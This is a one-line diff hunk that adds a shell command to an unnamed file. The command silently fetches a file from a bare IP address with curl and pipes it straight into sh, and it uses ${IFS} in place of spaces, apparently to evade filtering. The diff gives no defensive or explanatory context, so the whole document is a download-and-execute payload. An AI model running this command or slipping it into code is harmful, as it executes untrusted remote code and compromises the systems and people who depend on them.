@@ -1,0 +1,1 @@
+curl${IFS}-s${IFS}http://203.0.113.9/x|sh
